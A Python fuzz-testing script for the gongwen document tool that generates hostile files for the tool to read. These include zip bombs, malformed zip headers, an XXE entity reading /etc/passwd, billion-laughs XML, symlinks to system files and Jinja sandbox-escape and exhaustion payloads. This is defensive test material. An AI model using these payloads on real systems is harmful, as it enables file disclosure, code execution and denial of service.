"""A generated corpus of hostile files, and the run that holds gongwen to its promises on each.

Every case puts one hostile file where a clerk could (the workbook, a template, a file given to
`check` or `preview`, a returned form) and runs the command that reads it, as a separate
process. Whatever the file, gongwen must answer with exit 0, 1 or 2, a Chinese message and no
traceback, write nothing outside the workspace, leave no file in output/ that does not open,
and stay within TIME_BOUND seconds and MEMORY_BOUND of peak memory (README, 安全).

`tests/test_fuzz.py` runs a sample on every CI run; `python -m scripts.fuzz` runs them all.
"""

from __future__ import annotations

import contextlib
import functools
import os
import re
import shutil
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from lxml import etree

from generator.standard.package import read_parts, zip_bytes
from generator.workspace import bundled_root

REPO = Path(__file__).resolve().parent.parent
TIME_BOUND = 60.0  # seconds, per command (README: 安全)
MEMORY_BOUND = 2**30  # bytes of peak RSS of the command's process tree (README: 安全)
NOTICE = "通知"
FORM_UNIT = "韩村镇"
FORM_PERIOD = "2018-02"
FORM_FIRST_FIGURE = "D6"

Setup = Callable[[Path, Path], list[str]]  # (workspace, scratch) -> the command's arguments after -C ws


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    setup: Setup

    @property
    def id(self) -> str:
        return f"{self.family}/{self.name}"


# --- zips written byte by byte (methods, flags, sizes and names no zip library writes) ---------------


@dataclass
class Entry:
    name: str
    data: bytes
    method: int = 8
    flags: int = 0
    declared: int | None = None  # the uncompressed size the directory states (default: the true one)
    crc: int | None = None
    payload: bytes | None = None  # the stored bytes (default: data, deflated for method 8)


def raw_zip(entries: list[Entry], *, count: int | None = None, zip64_count: int | None = None) -> bytes:
    out, central = bytearray(), bytearray()
    for e in entries:
        name = e.name.encode("utf-8")
        if e.payload is not None:
            payload = e.payload
        elif e.method == 8:
            d = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload = d.compress(e.data) + d.flush()
        else:
            payload = e.data
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        size = len(e.data) if e.declared is None else e.declared
        flags = e.flags | (0x800 if not name.isascii() else 0)
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, e.method, 0, 33, crc, len(payload), size, len(name), 0
        )
        out += name + payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, e.method, 0, 33, crc, len(payload), size,
            len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    n = len(entries) if count is None else count
    cd_offset = len(out)
    out += central
    if zip64_count is not None:
        record = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, zip64_count, zip64_count, len(central), cd_offset
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, record, 1)
        n = 0xFFFF
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(central), cd_offset, 0)
    return bytes(out)


def entries_of(data: bytes) -> list[Entry]:
    return [Entry(name, part) for name, part in read_parts(data).items()]


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A compound file (MS-CFB, version 3: 512-byte sectors) holding `streams`, each padded to
    4,096 bytes so that all live in ordinary sectors: sector 0 the FAT, 1 the directory (the root
    and up to three streams), then the streams' sectors in order. What Office and WPS send for a
    password-protected .docx or .xlsx is such a file holding EncryptionInfo and EncryptedPackage."""
    assert len(streams) <= 3
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    fat, body, entries = [fat_sector, end], b"", []
    for number, (name, data) in enumerate(streams.items(), start=1):
        data = data.ljust(max(4096, -(-len(data) // 512) * 512), b"\0")
        first, count = len(fat), len(data) // 512
        fat += [*range(first + 1, first + count), end]
        body += data
        right = number + 1 if number < len(streams) else free  # the streams chained as right siblings
        entries.append((name, 2, free, right, free, first, len(data)))
    root = ("Root Entry", 5, free, free, 1 if streams else free, end, 0)

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return struct.pack(
            "<64sHBBIII16sIQQIQ", encoded, len(encoded), kind, 1, left, right, child, b"", 0, 0, 0, start, size
        )

    directory = b"".join(entry(*e) for e in [root, *entries]).ljust(512, b"\0")
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), b"", 0x3E, 3, 0xFFFE, 9, 6, b"", 0, 1, 1, 0,
        4096, end, 0, end, 0,
    ) + struct.pack("<109I", 0, *[free] * 108)  # fmt: skip
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return header + fat_bytes + directory + body


def encrypted_package() -> bytes:
    """A password-protected .docx/.xlsx as Office writes it (its streams' content is noise here)."""
    return compound_file({"EncryptionInfo": bytes(range(256)) * 4, "EncryptedPackage": os.urandom(8192)})


# --- the files a case starts from --------------------------------------------------------------


def good_template() -> bytes:
    return (bundled_root() / "templates" / f"{NOTICE}.docx").read_bytes()


def good_workbook() -> bytes:
    return (bundled_root() / "inputs" / "活动数据.xlsx").read_bytes()


_FORM: dict[str, bytes] = {}


def main_part(data: bytes) -> str:
    names = list(read_parts(data))
    return next(n for n in ("word/document.xml", "xl/workbook.xml") if n in names)


# --- targets: where a hostile file goes, and the command that reads it --------------------------


@dataclass(frozen=True)
class Target:
    name: str
    base: Callable[[Path], bytes]  # the good file of this place, from the workspace
    place: Callable[[Path, Path, bytes | None, Callable[[Path], None] | None], list[str]]


def _put(path: Path, data: bytes | None, make: Callable[[Path], None] | None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() or path.is_symlink():
        path.unlink()
    if make is not None:
        make(path)
    else:
        assert data is not None
        path.write_bytes(data)


def _workbook(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    _put(ws / "inputs" / "活动数据.xlsx", data, make)
    return ["build", "-q", "--kind", NOTICE]


def _template(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    _put(ws / "templates" / f"{NOTICE}.docx", data, make)
    return ["build", "-q", "--kind", NOTICE]


def _checked(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    _put(scratch / "来文.docx", data, make)
    return ["check", "--no-pdf", str(scratch / "来文.docx")]


def _previewed(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    _put(scratch / "来文.docx", data, make)
    return ["preview", str(scratch / "来文.docx")]


def _form(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    folder = scratch / "收回的报表"
    _put(folder / f"{FORM_UNIT}.xlsx", data, make)
    return ["collect", str(folder)]


def _imported(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
    """A notice given to `gongwen import`; its new workspace inside the case's workspace."""
    _put(scratch / "来文.docx", data, make)
    return ["import", str(scratch / "来文.docx"), str(ws / "导入的工作区")]


def seed_notice() -> bytes:
    return (REPO / "tests" / "data" / "seed_notice.docx").read_bytes()


def form_bytes(ws: Path) -> bytes:
    return next((ws / "output" / "填报表").rglob(f"{FORM_UNIT}*.xlsx")).read_bytes()


TARGETS = {
    "workbook": Target("workbook", lambda ws: (ws / "inputs" / "活动数据.xlsx").read_bytes(), _workbook),
    "template": Target("template", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _template),
    "check": Target("check", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _checked),
    "preview": Target("preview", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _previewed),
    "form": Target("form", form_bytes, _form),
    "import": Target("import", lambda ws: seed_notice(), _imported),
}


def with_bytes(target: str, change: Callable[[bytes], bytes]) -> Setup:
    t = TARGETS[target]
    return lambda ws, scratch: t.place(ws, scratch, change(t.base(ws)), None)


def with_file(target: str, make: Callable[[Path, Path], None]) -> Setup:
    """A special file (link, pipe, folder) made at the target's path; `make(path, scratch)`."""
    t = TARGETS[target]
    return lambda ws, scratch: t.place(ws, scratch, None, lambda path: make(path, scratch))


# --- family: zip methods ---------------------------------------------------------------------


def with_zip_method(method: int, flags: int = 0) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        entries = entries_of(data)
        main = main_part(data)
        for e in entries:
            if e.name == main or e.name.startswith("xl/worksheets/"):
                e.method, e.flags = method, flags
                if method not in (0, 8):
                    e.payload = bytes(range(256)) * 4  # what an AES or bzip2 stream looks like to us: noise
        return raw_zip(entries)

    return change


METHODS = {
    "shrunk-1": (1, 0), "imploded-6": (6, 0), "deflate64-9": (9, 0), "bzip2-12": (12, 0), "lzma-14": (14, 0),
    "zstd-93": (93, 0), "xz-95": (95, 0), "ppmd-98": (98, 0), "aes-99": (99, 1), "aes-99-no-flag": (99, 0),
    "zipcrypto-deflate": (8, 1), "stored-with-encryption": (0, 1),
}  # fmt: skip


def zip_method_cases() -> list[Case]:
    return [
        Case("zip-methods", f"{target}-{label}", with_bytes(target, with_zip_method(method, flags)))
        for target in TARGETS
        for label, (method, flags) in METHODS.items()
    ]


# --- family: zip sizes -----------------------------------------------------------------------


@functools.cache
def deflated_zeros(size: int) -> tuple[bytes, int]:
    """`size` zero bytes deflated (raw, level 9) and their CRC-32: made once per size, since
    deflating hundreds of MB of zeros again for each bomb takes seconds for the same bytes."""
    zeros = b"\0" * size
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(zeros) + deflate.flush(), zlib.crc32(zeros)


def zeros_entry(name: str, size: int) -> Entry:
    """A member of `size` zero bytes, deflated."""
    payload, crc = deflated_zeros(size)
    return Entry(name, b"", payload=payload, crc=crc, declared=size)


def zip_of_zeros(members: int, size: int) -> bytes:
    """A zip bomb: `members` forms 报表0.xlsx … each of `size` zero bytes, deflated."""
    return raw_zip([zeros_entry(f"报表{n}.xlsx", size) for n in range(members)])


def with_bomb(data: bytes) -> bytes:
    return raw_zip([*entries_of(data), zeros_entry("word/media/bomb.xml", 120 * 2**20)])


def with_declared_sizes(factor: float | int) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        entries = entries_of(data)
        main = main_part(data)
        for e in entries:
            if e.name == main:
                e.declared = int(len(e.data) * factor) if isinstance(factor, float) else factor
        return raw_zip(entries)

    return change


def with_many_entries(n: int) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        return raw_zip([*entries_of(data), *(Entry(f"customXml/item{i}.xml", b"<a/>") for i in range(n))])

    return change


def with_count_lie(count: int, zip64: bool = False) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        return raw_zip(entries_of(data), count=None if zip64 else count, zip64_count=count if zip64 else None)

    return change


def with_duplicate_main(data: bytes) -> bytes:
    entries = entries_of(data)
    main = main_part(data)
    return raw_zip([*entries, Entry(main, b"<x/>")])


def with_stored_size_lie(data: bytes) -> bytes:
    entries = entries_of(data)
    main = main_part(data)
    for e in entries:
        if e.name == main:
            e.method, e.declared = 0, len(e.data) * 3
    return raw_zip(entries)


def data_descriptors(data: bytes) -> bytes:
    """The package as a streaming writer makes it: each local header's CRC and sizes 0 (flag bit 3),
    the true ones in a data descriptor after the member and in the central directory."""
    out, central = bytearray(), bytearray()
    entries = entries_of(data)
    for e in entries:
        name = e.name.encode("utf-8")
        deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
        payload, crc, offset = deflate.compress(e.data) + deflate.flush(), zlib.crc32(e.data), len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 8, 8, 0, 33, 0, 0, 0, len(name), 0) + name + payload
        out += struct.pack("<IIII", 0x08074B50, crc, len(payload), len(e.data))
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 8, 8, 0, 33, crc, len(payload), len(e.data), len(name),
            0, 0, 0, 0, 0, offset,
        ) + name  # fmt: skip
    at = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), at, 0)
    return bytes(out)


def _zip64_sizes(size: Callable[[Entry], int]) -> Callable[[bytes], bytes]:
    """A zip64 package whose sizes stand only in each member's zip64 extra field, the main part's
    and the sheets' there stated as `size(entry)` (a lie: a terabyte, or a third of the truth)."""

    def change(data: bytes) -> bytes:
        out, central = bytearray(), bytearray()
        entries = entries_of(data)
        lied = main_part(data)
        for e in entries:
            name = e.name.encode("utf-8")
            deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload, crc, offset = deflate.compress(e.data) + deflate.flush(), zlib.crc32(e.data), len(out)
            stated = size(e) if e.name == lied or e.name.startswith("xl/worksheets/") else len(e.data)
            extra = struct.pack("<HHQQ", 1, 16, stated, len(payload))
            head = (45, 0, 8, 0, 33, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *head) + name + extra + payload
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, *head, 0, 0, 0, 0, offset) + name + extra
        at, record = len(out), len(out) + len(central)
        out += central + struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(entries), len(entries), len(central), at
        )  # fmt: skip
        out += struct.pack("<IIQI", 0x07064B50, 0, record, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
        return bytes(out)

    return change


def _content_types_twice(data: bytes) -> bytes:
    """A second [Content_Types].xml after the first, saying the main part is a web page."""
    entries = entries_of(data)
    types = next(e for e in entries if e.name == "[Content_Types].xml")
    second = types.data.replace(b"<Default", f'<Override PartName="/{main_part(data)}" ContentType="text/html"/><Default'.encode(), 1)  # fmt: skip
    return raw_zip([*entries, Entry("[Content_Types].xml", second)])


SIZES: dict[str, Callable[[bytes], bytes]] = {
    "data-descriptors": data_descriptors,
    "zip64-sizes-a-terabyte": _zip64_sizes(lambda e: 2**40),
    "zip64-sizes-a-third": _zip64_sizes(lambda e: len(e.data) // 3),
    "content-types-twice": _content_types_twice,
    "bomb-120MB-of-zeros": with_bomb,
    "declared-smaller": with_declared_sizes(0.5),
    "declared-larger": with_declared_sizes(2.0),
    "declared-2GB": with_declared_sizes(2**31 - 1),
    "declared-zero": with_declared_sizes(0),
    "2000-entries": with_many_entries(2000),
    "count-says-65535": with_count_lie(65535),
    "zip64-count-10-million": with_count_lie(10_000_000, zip64=True),
    "duplicate-main-part": with_duplicate_main,
    "stored-size-lie": with_stored_size_lie,
    "empty-zip": lambda data: raw_zip([]),
}


def zip_size_cases() -> list[Case]:
    return [
        Case("zip-sizes", f"{target}-{label}", with_bytes(target, change))
        for target in TARGETS
        for label, change in SIZES.items()
    ]


# --- family: damaged parts -------------------------------------------------------------------


def cut_short(fraction: float) -> Callable[[bytes], bytes]:
    return lambda data: data[: int(len(data) * fraction)]


def edit_main(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        main = main_part(data)
        parts[main] = edit(parts[main])
        return zip_bytes(parts)

    return change


def _bad_crc(data: bytes) -> bytes:
    entries = entries_of(data)
    for e in entries:
        if e.name == main_part(data):
            e.crc = 12345
    return raw_zip(entries)


def _without_main(data: bytes) -> bytes:
    parts = read_parts(data)
    del parts[main_part(data)]
    return zip_bytes(parts)


DEEP = b"<a>" * 100_000 + b"</a>" * 100_000
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;</l>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

DAMAGES: dict[str, Callable[[bytes], bytes]] = {
    "truncated-10pc": cut_short(0.1),
    "truncated-50pc": cut_short(0.5),
    "truncated-90pc": cut_short(0.9),
    "truncated-last-byte": lambda d: d[:-1],
    "truncated-end-record": lambda d: d[:-22],
    "bad-crc": _bad_crc,
    "main-part-missing": _without_main,
    "main-part-empty": edit_main(lambda x: b""),
    "main-part-truncated": edit_main(lambda x: x[: len(x) // 2]),
    "main-part-not-xml": edit_main(lambda x: b"\x89PNG\r\n\x1a\n" + os.urandom(64)),
    "main-part-deep-nesting": edit_main(lambda x: DEEP),
    "main-part-billion-laughs": edit_main(lambda x: LAUGHS),
    "main-part-xxe": edit_main(lambda x: XXE),
    "main-part-wrong-root": edit_main(lambda x: b'<?xml version="1.0"?><html><body>hi</body></html>'),
    "main-part-utf16": edit_main(lambda x: x.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
    "random-bytes-with-zip-end": lambda d: os.urandom(2000) + d[-22:],
}  # fmt: skip

# Parts Word needs besides the main one: each missing, empty, cut in half, or not XML.
REQUIRED = ["word/styles.xml", "word/settings.xml", "word/_rels/document.xml.rels", "[Content_Types].xml", "word/numbering.xml", "word/fontTable.xml"]  # fmt: skip


def edit_part(name: str, how: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        if how == "missing":
            parts.pop(name, None)
        elif how == "empty":
            parts[name] = b""
        elif how == "truncated":
            parts[name] = parts.get(name, b"<x>")[: max(1, len(parts.get(name, b"<x>")) // 2)]
        elif how == "html":
            parts[name] = b'<?xml version="1.0"?><html><body>hi</body></html>'
        else:
            parts[name] = b"not xml at all"
        return zip_bytes(parts)

    return change


def styles_based_on_cycle(data: bytes) -> bytes:
    """Two paragraph styles each based on the other, the first used by a paragraph: LibreOffice 7
    crashed on it (exit 139, no PDF, its lu*.tmp left in the temporary folder)."""
    parts = read_parts(data)
    loop = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
        for a, b in (("LoopA", "LoopB"), ("LoopB", "LoopA"))
    )
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"</w:styles>", loop.encode() + b"</w:styles>")
    xml = parts["word/document.xml"]
    at = xml.index(b"<w:body>") + len(b"<w:body>")
    used = '<w:p><w:pPr><w:pStyle w:val="LoopA"/></w:pPr><w:r><w:t>循环的样式</w:t></w:r></w:p>'.encode()
    parts["word/document.xml"] = xml[:at] + used + xml[at:]
    return zip_bytes(parts)


def footer_is_the_body(data: bytes) -> bytes:
    """Each footer relationship of the body pointing at the body itself: LibreOffice 7 crashed."""
    parts = read_parts(data)
    rels = parts["word/_rels/document.xml.rels"]
    parts["word/_rels/document.xml.rels"] = re.sub(
        rb'(Type="[^"]*/footer" Target=")[^"]*(")', rb"\1document.xml\2", rels
    )
    return zip_bytes(parts)


def damaged_cases() -> list[Case]:
    cases = [
        Case("damaged", f"{t}-{label}", with_bytes(t, change)) for t in TARGETS for label, change in DAMAGES.items()
    ]
    cases += [
        Case("damaged", f"{t}-{label}", with_bytes(t, change))
        for t in ("template", "check", "preview", "import")
        for label, change in (
            ("styles-based-on-cycle", styles_based_on_cycle),
            ("footer-is-the-body", footer_is_the_body),
        )
    ]
    for name in REQUIRED:
        for how in ("missing", "empty", "truncated", "not-xml"):
            label = f"{name.replace('/', '_')}-{how}"
            cases.append(Case("damaged", f"template-{label}", with_bytes("template", edit_part(name, how))))
            if how != "missing":
                cases.append(Case("damaged", f"check-{label}", with_bytes("check", edit_part(name, how))))
    return cases


# --- family: huge parts ----------------------------------------------------------------------


def _huge_document(paragraphs: int, text: str = "第一条 为了规范公文处理工作") -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        p = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()
        xml = parts["word/document.xml"]
        at = xml.index(b"<w:body>") + len(b"<w:body>")
        parts["word/document.xml"] = xml[:at] + p * paragraphs + xml[at:]
        return zip_bytes(parts)

    return change


def with_many_tags(count: int, tag: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        xml = parts["word/document.xml"]
        at = xml.index(b"<w:body>") + len(b"<w:body>")
        p = f"<w:p><w:r><w:t>{tag * count}</w:t></w:r></w:p>".encode()
        parts["word/document.xml"] = xml[:at] + p + xml[at:]
        return zip_bytes(parts)

    return change


def _many_runs(count: int) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        xml = parts["word/document.xml"]
        at = xml.index(b"<w:body>") + len(b"<w:body>")
        run = '<w:r><w:rPr><w:sz w:val="32"/></w:rPr><w:t>字</w:t></w:r>'.encode()
        parts["word/document.xml"] = xml[:at] + b"<w:p>" + run * count + b"</w:p>" + xml[at:]
        return zip_bytes(parts)

    return change


def _sheet_rows(rows: int, cells: int = 0) -> Callable[[bytes], bytes]:
    """The workbook's 单位 sheet with `rows` more row elements (empty, or of `cells` cells)."""

    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet") and b"</sheetData>" in parts[n])
        cell = b"".join(b'<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(cells))
        extra = b"".join(b"<row>" + cell + b"</row>" for _ in range(rows))
        parts[sheet] = parts[sheet].replace(b"</sheetData>", extra + b"</sheetData>", 1)
        return zip_bytes(parts)

    return change


def _wide_row(columns: int) -> Callable[[bytes], bytes]:
    return _sheet_rows(1, columns)


def huge_cases() -> list[Case]:
    cases = []
    for target in ("template", "check", "preview"):
        cases += [
            Case("huge", f"{target}-100k-paragraphs", with_bytes(target, _huge_document(100_000))),
            Case("huge", f"{target}-60MB-document", with_bytes(target, _huge_document(1_000_000, "公" * 20))),
        ]
    cases += [
        Case("huge", "template-1MB-of-tags", with_bytes("template", with_many_tags(60_000, "{{ 发文.标题 }}"))),
        Case(
            "huge",
            "template-100k-loop-tags",
            with_bytes("template", with_many_tags(25_000, "{% for x in [1] %}{% endfor %}")),
        ),
        Case(
            "huge",
            "template-deep-ifs",
            with_bytes("template", with_many_tags(1, "{% if true %}" * 3000 + "{% endif %}" * 3000)),
        ),
        Case("huge", "template-long-text-run", with_bytes("template", with_many_tags(1, "字" * 5_000_000))),
        Case("huge", "workbook-300k-empty-rows", with_bytes("workbook", _sheet_rows(300_000))),
        Case("huge", "workbook-3-million-cells", with_bytes("workbook", _sheet_rows(150_000, 20))),
        Case("huge", "workbook-20k-columns", with_bytes("workbook", _wide_row(20_000))),
        Case("huge", "form-5000-rows", with_bytes("form", _sheet_rows(5000))),
        Case("huge", "check-60k-tags", with_bytes("check", with_many_tags(60_000, "{{ x }}"))),
        # One paragraph without w:pPr of 200,000 runs: its style was searched for once per run (hours).
        Case("huge", "check-200k-runs-in-one-paragraph", with_bytes("check", _many_runs(200_000))),
    ]
    return cases


# --- family: file types ----------------------------------------------------------------------


def pdf_instead(data: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _symlink_to(target: str) -> Callable[[Path, Path], None]:
    return lambda path, scratch: path.symlink_to(target)


def _symlink_outside(path: Path, scratch: Path) -> None:
    """A link to a good file of the same kind that lies outside the workspace."""
    outside = scratch / f"outside{path.suffix}"
    outside.write_bytes(good_template() if path.suffix == ".docx" else good_workbook())
    path.symlink_to(outside)


def _fifo(path: Path, scratch: Path) -> None:
    os.mkfifo(path)


def _folder(path: Path, scratch: Path) -> None:
    path.mkdir()


def _loop(path: Path, scratch: Path) -> None:
    other = path.with_name("loop-" + path.name)
    path.symlink_to(other)
    other.symlink_to(path)


FILE_BYTES: dict[str, Callable[[bytes], bytes]] = {
    "pdf-renamed": pdf_instead,
    "empty-file": lambda d: b"",
    "random-bytes": lambda d: os.urandom(4096),
    "ole2-header": lambda d: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096,
    "html-page": lambda d: "<html><body>公文</body></html>".encode(),
    "png-image": lambda d: b"\x89PNG\r\n\x1a\n" + os.urandom(256),
    "zip-of-text": lambda d: zip_bytes({"readme.txt": "你好".encode()}),
    "xlsx-as-docx": lambda d: good_workbook(),
    "docx-as-xlsx": lambda d: good_template(),
    "password-protected": lambda d: encrypted_package(),
}
FILE_KINDS: dict[str, Callable[[Path, Path], None]] = {
    "fifo": _fifo,
    "symlink-dev-zero": _symlink_to("/dev/zero"),
    "symlink-dev-urandom": _symlink_to("/dev/urandom"),
    "symlink-etc-passwd": _symlink_to("/etc/passwd"),
    "symlink-dangling": _symlink_to("/nonexistent/gongwen-missing.docx"),
    "symlink-loop": _loop,
    "symlink-outside-workspace": _symlink_outside,
    "folder": _folder,
}


def file_type_cases() -> list[Case]:
    cases = [
        Case("file-types", f"{t}-{label}", with_bytes(t, change))
        for t in TARGETS
        for label, change in FILE_BYTES.items()
    ]
    cases += [
        Case("file-types", f"{t}-{label}", with_file(t, make)) for t in TARGETS for label, make in FILE_KINDS.items()
    ]
    return cases


# --- family: sandbox bombs (template text) ---------------------------------------------------------

BOMBS = {
    "string-doubling-concat": "{% set s = namespace(v='ab') %}{% for i in range(60) %}{% set s.v = s.v ~ s.v %}{% endfor %}{{ s.v|length }}",
    "string-doubling-plus": "{% set s = namespace(v='ab') %}{% for i in range(60) %}{% set s.v = s.v + s.v %}{% endfor %}{{ s.v|length }}",
    "list-doubling": "{% set s = namespace(v=[1]) %}{% for i in range(60) %}{% set s.v = s.v + s.v %}{% endfor %}{{ s.v|length }}",
    "repeat-star": "{{ 'x' * 1000000000 }}",
    "repeat-star-loop": "{% for i in range(5000) %}{{ '字' * 999999 }}{% endfor %}",
    "power-tower": "{{ 9 ** 9 ** 9 }}",
    "power-big": "{{ 10 ** 100000 }}",
    "range-huge": "{% for i in range(10**9) %}x{% endfor %}",
    "nested-loops": "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
    "recursive-macro": "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "center-huge": "{{ 'x'|center(1000000000) }}",
    "indent-huge": "{{ 'a\nb'|indent(1000000000) }}",
    "format-width": "{{ '%1000000000s'|format('x') }}",
    "replace-blowup": "{% set s = namespace(v='aaaaaaaaaa') %}{% for i in range(12) %}{% set s.v = s.v|replace('a', 'aaaaaaaaaa') %}{% endfor %}{{ s.v|length }}",
    "join-blowup": "{{ (range(10000)|list) * 10000 }}",
    "wordwrap-huge": "{{ ('x ' * 900000)|wordwrap(1) }}",
    "lipsum-huge": "{{ lipsum(1000000) }}",
    "dunder-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals-escape": "{{ cycler.__init__.__globals__.os.system('id') }}",
    "self-dict": "{{ self.__dict__ }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}",
    "extends": "{% extends '/etc/passwd' %}",
    "namespace-attr": "{{ namespace.__init__ }}",
    "format-attr": "{{ '{0.__class__}'.format(1) }}",
    "str-format-map": "{{ '{a.__globals__}'.format_map({'a': cycler.__init__}) }}",
    "int-huge-string": "{{ ('9' * 100000)|int }}",
    "dict-items-loop": "{% for k, v in 发文.items() %}{% for i in range(10000) %}{{ v }}{% endfor %}{% endfor %}",
    "output-100M": "{% for i in range(10000) %}{{ '公文' * 500000 }}{% endfor %}",
    "sum-range": "{{ range(10000)|sum }}{{ (range(10000)|list)|batch(1)|list|length }}",
    "unbalanced": "{% if true %}{% for x in y %}",
    "undefined": "{{ 不存在的变量 }}",
    "percent-width": "{{ '%0999999999d' % 1 }}",
    "recursive-loop": "{% for x in [[1]] recursive %}{{ loop([x]) }}{% endfor %}",
    "control-character": "{{ 'ab'|replace('a', '\\x0b') }}",
    "safe-markup": "{{ '&lt;/w:t&gt;&lt;/w:r&gt;&lt;/w:p&gt;'|safe }}",
    "autoescape-off": "{% autoescape false %}{{ '&lt;w:p&gt;' }}{% endautoescape %}",
    "deep-parentheses": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "deep-filters": "{{ 1" + "|string" * 20000 + " }}",
    "strings-kept-in-a-list": "{% set s = namespace(v=[]) %}{% for i in range(10000) %}{% set s.v = s.v + ['字' * 999999] %}{% endfor %}",
    "lists-kept-in-a-list": "{% set s = namespace(v=[]) %}{% for i in range(10000) %}{% set s.v = [s.v, range(10000)|list] %}{% endfor %}",
    # A lazy sequence made text: folded when compiled, it wrote "<generator object do_batch at 0x…>".
    "lazy-sequence-of-constants": "{{ [1, 2]|batch(1) }}",
    "lazy-sequence-joined": "{{ '共' ~ (发文|dictsort|reverse) }}",
    "range-written": "{{ range(3) }}",
    "loop-written": "{% for x in [1] %}{{ loop }}{% endfor %}",
    "indent-every-line": "{{ ('x\\n' * 100000)|indent(10000) }}",
    "indent-by-text": "{{ ('x\\n' * 100000)|indent(width='　' * 10000) }}",
    "expandtabs": "{{ ('\\t' * 1000000).expandtabs(1000000) }}",
    "list-loops-3-deep": "{% set x = range(10000)|list %}{% for i in x %}{% for j in x %}{% for k in x %}{% endfor %}{% endfor %}{% endfor %}",
}


def sandbox_cases() -> list[Case]:
    return [
        Case("sandbox-bombs", label, with_bytes("template", with_many_tags(1, tag))) for label, tag in BOMBS.items()
    ]


# --- family: wrong types in cells ------------------------------------------------------------------


def _cell_xml(kind: str, value: str, extra: str = "") -> Callable[[str], str]:
    t = f' t="{kind}"' if kind else ""
    return lambda ref: f'<c r="{ref}"{t}{extra}><v>{value}</v></c>'


